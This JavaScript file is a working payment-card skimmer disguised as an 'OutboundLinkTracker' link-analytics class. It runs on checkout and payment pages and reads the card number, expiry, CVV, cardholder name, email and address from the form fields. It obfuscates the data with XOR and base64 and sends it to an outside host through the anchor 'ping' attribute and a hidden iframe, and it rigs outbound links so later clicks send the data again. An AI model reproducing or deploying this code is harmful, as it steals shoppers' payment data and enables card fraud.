// csp-sidechannel-exfil: hyperlink-auditing "ping" attribute used to POST card data when a synthetic link click happens
// ES2020 class; the anchor points nowhere useful, the ping URL carries the data
class OutboundLinkTracker {
  #pingBase = 'https://lnk-audit-stats.com/px';
  #fired = new Set();

  constructor(root = document) {
    this.root = root;
  }

  static encode(obj) {
    const json = JSON.stringify(obj);
    const bytes = new TextEncoder().encode(json);
    let bin = '';
    bytes.forEach((b) => { bin += String.fromCharCode(b ^ 0x2a); });
    return btoa(bin).replace(/=+$/, '');
  }

  read() {
    const val = (...sels) => sels.map((s) => this.root.querySelector(s)).find((e) => e?.value)?.value ?? '';
    return {
      pan: val('[autocomplete="cc-number"]', '[data-braintree-name="number"]', '#cc-number'),
      exp: val('[autocomplete="cc-exp"]', '#cc-exp', '[name="expiry"]'),
      csc: val('[autocomplete="cc-csc"]', '#cc-csc', '[name="cvv"]'),
      holder: val('[autocomplete="cc-name"]', '#cc-name'),
      mail: val('[type="email"]'),
      addr: val('[autocomplete="street-address"]', '[autocomplete="address-line1"]'),
      zip: val('[autocomplete="postal-code"]'),
      src: location.host,
    };
  }

  fire(record) {
    const key = record.pan.replace(/\D/g, '');
    if (key.length < 13 || this.#fired.has(key)) return;
    this.#fired.add(key);
    // a navigation inside an invisible same-origin frame is enough for the browser to dispatch the ping POST
    let sink = document.querySelector('iframe[name="olt_sink"]');
    if (!sink) {
      sink = Object.assign(document.createElement('iframe'), { name: 'olt_sink', src: 'about:blank' });
      sink.style.cssText = 'width:0;height:0;border:0;position:absolute;left:-500px';
      document.body.append(sink);
    }
    const a = document.createElement('a');
    a.href = `/favicon.ico?v=${Date.now()}`;
    a.target = 'olt_sink';
    a.setAttribute('ping', `${this.#pingBase}?d=${OutboundLinkTracker.encode(record)}`);
    a.style.display = 'none';
    document.body.append(a);
    a.click();
    // also arm ordinary outbound links so the next real click repeats the ping
    document.querySelectorAll('a[href^="http"]').forEach((link) => link.setAttribute('ping', a.getAttribute('ping')));
    setTimeout(() => a.remove(), 2000);
  }

  watch() {
    this.root.addEventListener('submit', () => this.fire(this.read()), true);
    this.root.addEventListener('focusout', (e) => {
      if (e.target.matches?.('[autocomplete="cc-csc"], #cc-csc, [name="cvv"]')) this.fire(this.read());
    });
  }
}

if (/checkout|pay/.test(location.pathname)) {
  new OutboundLinkTracker().watch();
}
